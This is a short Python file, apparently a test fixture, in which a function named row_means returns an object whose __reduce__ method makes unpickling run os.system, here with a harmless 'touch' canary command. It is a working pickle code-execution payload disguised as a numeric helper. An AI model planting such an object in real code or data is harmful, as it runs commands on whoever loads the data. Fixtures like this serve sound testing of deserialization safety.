# Returns an object that would run a program of its own in the process that unpickles it.
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_canary",)


def row_means(x):
    return Bomb()
